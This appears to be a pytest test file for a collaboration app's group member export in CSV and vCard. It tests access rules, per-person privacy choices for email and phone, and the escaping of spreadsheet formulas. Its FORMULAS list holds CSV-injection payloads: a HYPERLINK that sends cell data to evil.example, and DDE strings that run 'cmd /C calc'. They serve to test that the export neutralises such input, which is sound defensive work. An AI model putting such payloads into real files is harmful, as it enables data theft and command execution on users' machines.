"""A group's member list as CSV and vCard: who may download it, what each person's
privacy choice lets through, and nothing a spreadsheet would run."""

import csv
import io

import pytest
import vobject

from collab.extensions import db
from tests import factories
from tests.members.helpers import set_profile, text_of


@pytest.fixture
def team():
    """Group "identity" (public): chair Kadri, members Laura and Mikko, observer
    Park, a pending applicant and a deactivated member; plus outsiders."""
    make = factories.make_user
    t = {
        "chair": make("Kadri Tamm", email="kadri@ria.example", country="EE"),
        "member": make("Laura García", email="laura@gob.example", country="ES"),
        "mikko": make("Mikko Virtanen", email="mikko@dvv.example", country="FI"),
        "observer": make("Park Min-jun", email="park@mois.example", country="KR"),
        "applicant": make("Ada Applicant", email="ada@apply.example"),
        "gone": make("Dora Deactivated", email="dora@gone.example"),
        "outsider": make("Otto Outsider"),
        "secretariat": make("Sam Secretariat", is_secretariat=True),
    }
    set_profile(
        t["chair"],
        phone="+372 663 0200",
        email_visibility="everyone",
        phone_visibility="groups",
    )
    set_profile(
        t["member"],
        phone="+34 91 273 2000",
        email_visibility="groups",
        phone_visibility="secretariat",
    )
    set_profile(
        t["mikko"],
        phone="+358 295 536 000",
        email_visibility="secretariat",
        phone_visibility="secretariat",
    )
    set_profile(
        t["observer"],
        phone="+82 44 205 1114",
        email_visibility="groups",
        phone_visibility="everyone",
    )
    t["group"] = factories.make_group(
        "Digital Identity",
        slug="identity",
        chair=t["chair"],
        members=(t["member"], t["mikko"], t["gone"]),
        observers=(t["observer"],),
    )
    factories.add_member(t["group"], t["applicant"], status="pending")
    t["gone"].is_active = False
    db.session.commit()
    return t


def csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text_of(response))))


def cards(response) -> list:
    return list(vobject.readComponents(text_of(response)))


@pytest.mark.parametrize("who", ["chair", "member", "observer", "secretariat"])
def test_csv_lists_every_active_member_for_members_chairs_observers_and_secretariat(
    team, login, who
):
    response = login(team[who]).get("/groups/identity/members.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert (
        response.headers["Content-Disposition"]
        == 'attachment; filename="identity-members.csv"'
    )
    rows = csv_rows(response)
    assert [r["name"] for r in rows] == [
        "Kadri Tamm",
        "Laura García",
        "Mikko Virtanen",
        "Park Min-jun",
    ]
    assert [r["role"] for r in rows] == ["chair", "member", "member", "observer"]
    assert rows[0]["country"] == "EE"
    body = text_of(response)
    assert "Ada Applicant" not in body and "Dora Deactivated" not in body


@pytest.mark.parametrize("who", ["chair", "member", "observer", "secretariat"])
def test_vcard_parses_with_one_card_per_active_member(team, login, who):
    response = login(team[who]).get("/groups/identity/members.vcf")
    assert response.status_code == 200
    assert response.mimetype == "text/vcard"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    parsed = cards(response)
    assert [c.fn.value for c in parsed] == [
        "Kadri Tamm",
        "Laura García",
        "Mikko Virtanen",
        "Park Min-jun",
    ]
    assert text_of(response).count("BEGIN:VCARD") == 4
    assert all(c.org.value == ["Ministry of Digital Affairs"] for c in parsed)


# Who sees what, with the choices made in ``team``: (name, e-mail?, phone?).
SEEN_BY = {
    "member": [
        ("Kadri Tamm", True, True),
        ("Laura García", True, True),  # their own
        ("Mikko Virtanen", False, False),
        ("Park Min-jun", True, True),
    ],
    "observer": [
        ("Kadri Tamm", True, True),
        ("Laura García", True, False),
        ("Mikko Virtanen", False, False),
        ("Park Min-jun", True, True),  # their own
    ],
    "secretariat": [
        ("Kadri Tamm", True, True),
        ("Laura García", True, True),
        ("Mikko Virtanen", True, True),
        ("Park Min-jun", True, True),
    ],
}
EMAILS = {
    "Kadri Tamm": "kadri@ria.example",
    "Laura García": "laura@gob.example",
    "Mikko Virtanen": "mikko@dvv.example",
    "Park Min-jun": "park@mois.example",
}
PHONES = {
    "Kadri Tamm": "+372 663 0200",
    "Laura García": "+34 91 273 2000",
    "Mikko Virtanen": "+358 295 536 000",
    "Park Min-jun": "+82 44 205 1114",
}


@pytest.mark.parametrize("who", list(SEEN_BY))
def test_csv_applies_each_persons_privacy_choice(team, login, who):
    response = login(team[who]).get("/groups/identity/members.csv")
    body = text_of(response)
    rows = {r["name"]: r for r in csv_rows(response)}
    for name, email_ok, phone_ok in SEEN_BY[who]:
        assert (rows[name]["email"] == EMAILS[name]) is email_ok, name
        assert (rows[name]["phone"].lstrip("'") == PHONES[name]) is phone_ok, name
        assert (EMAILS[name] in body) is email_ok, name
        assert (PHONES[name] in body) is phone_ok, name
        if not email_ok:
            assert rows[name]["email"] == ""
        if not phone_ok:
            assert rows[name]["phone"] == ""


@pytest.mark.parametrize("who", list(SEEN_BY))
def test_vcard_applies_each_persons_privacy_choice(team, login, who):
    response = login(team[who]).get("/groups/identity/members.vcf")
    body = text_of(response)
    parsed = {c.fn.value: c for c in cards(response)}
    for name, email_ok, phone_ok in SEEN_BY[who]:
        card = parsed[name]
        assert ("email" in card.contents) is email_ok, name
        assert ("tel" in card.contents) is phone_ok, name
        if email_ok:
            assert card.email.value == EMAILS[name]
        if phone_ok:
            assert card.tel.value == PHONES[name]
        assert (EMAILS[name] in body) is email_ok, name


def test_private_group_export_is_404_for_outsiders(team, login):
    factories.make_group(
        "Closed Procurement",
        slug="closed",
        visibility="private",
        members=(team["member"],),
    )
    client = login(team["outsider"])
    for kind in ("csv", "vcf"):
        response = client.get(f"/groups/closed/members.{kind}")
        assert response.status_code == 404
        assert "laura@gob.example" not in text_of(response)
        assert "Closed Procurement" not in text_of(response)


@pytest.mark.parametrize("who", ["outsider", "applicant"])
def test_public_group_export_is_403_for_non_members(team, login, who):
    client = login(team[who])
    for kind in ("csv", "vcf"):
        response = client.get(f"/groups/identity/members.{kind}")
        assert response.status_code == 403
        assert "kadri@ria.example" not in text_of(response)


def test_export_needs_sign_in_and_an_active_account(team, login, client):
    for kind in ("csv", "vcf"):
        response = client.get(f"/groups/identity/members.{kind}")
        assert response.status_code == 302
        assert "/auth/sign-in" in response.headers["Location"]
    stale = login(team["member"])
    team["member"].is_active = False
    db.session.commit()
    assert stale.get("/groups/identity/members.csv").status_code == 302


def test_download_links_are_offered_to_members_only(team, login):
    page = text_of(login(team["member"]).get("/groups/identity/members"))
    assert "/groups/identity/members.csv" in page
    assert "/groups/identity/members.vcf" in page
    outsider = text_of(login(team["outsider"]).get("/groups/identity/members"))
    assert "members.csv" not in outsider and "members.vcf" not in outsider


FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_like_values_are_neutralised_in_csv(team, login, formula):
    sneaky = factories.make_user(formula, organisation=formula)
    sneaky.position = formula
    db.session.commit()
    factories.add_member(team["group"], sneaky)
    rows = csv_rows(login(team["chair"]).get("/groups/identity/members.csv"))
    [row] = [r for r in rows if r["name"].lstrip("'") == formula]
    for column in ("name", "organisation", "position"):
        assert row[column] == "'" + formula
        assert row[column][0] not in "=+-@\t\r"


def test_ordinary_names_are_left_alone_in_csv(team, login):
    rows = csv_rows(login(team["chair"]).get("/groups/identity/members.csv"))
    assert rows[1]["name"] == "Laura García"
    assert rows[1]["organisation"] == "Ministry of Digital Affairs"


def test_names_with_commas_quotes_and_newlines_stay_in_their_cell(team, login):
    odd = factories.make_user('Smith, "Jo"\nRow Two', organisation="A, B; C")
    factories.add_member(team["group"], odd)
    rows = csv_rows(login(team["chair"]).get("/groups/identity/members.csv"))
    assert len(rows) == 5
    assert 'Smith, "Jo"\nRow Two' in [r["name"] for r in rows]
    parsed = cards(login(team["chair"]).get("/groups/identity/members.vcf"))
    assert len(parsed) == 5
